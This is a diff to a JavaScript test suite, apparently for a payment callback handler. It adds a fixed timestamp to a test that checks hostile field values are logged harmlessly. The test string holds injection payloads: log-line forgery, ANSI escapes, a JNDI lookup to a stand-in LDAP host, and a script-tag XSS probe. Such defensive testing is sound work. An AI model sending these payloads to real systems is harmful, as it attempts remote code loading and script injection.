@@ -337,11 +337,13 @@ describe('Names and words', () => {
 
   it('W50: text that means something to a terminal, a log reader or a lookup is kept and logged as one harmless line', async () => {
     const payment = await open();
+    // One date for all: another second would make them another message.
+    const date = Math.floor(Date.now() / 1000);
     const nasty =
       'a\nb\r\n{"level":"fatal"}\u001b[31mred\u001b[0m ${jndi:ldap://203.0.113.1/x} <script>alert(1)</script>';
     for (const changes of [{ note: nasty }, { description: nasty }, { module_name: nasty }, { email: nasty }]) {
       const before = (await storyOf(payment.id)).length;
-      const body = said(payment, { status: 'Waiting', txs: [], ...changes });
+      const body = said(payment, { status: 'Waiting', txs: [], date, ...changes });
       expect(await shop.callback(body)).toEqual(acknowledged);
       expect(await kept(shop.database.pool, body)).toHaveLength(before === untouched.length ? 1 : 0);
     }
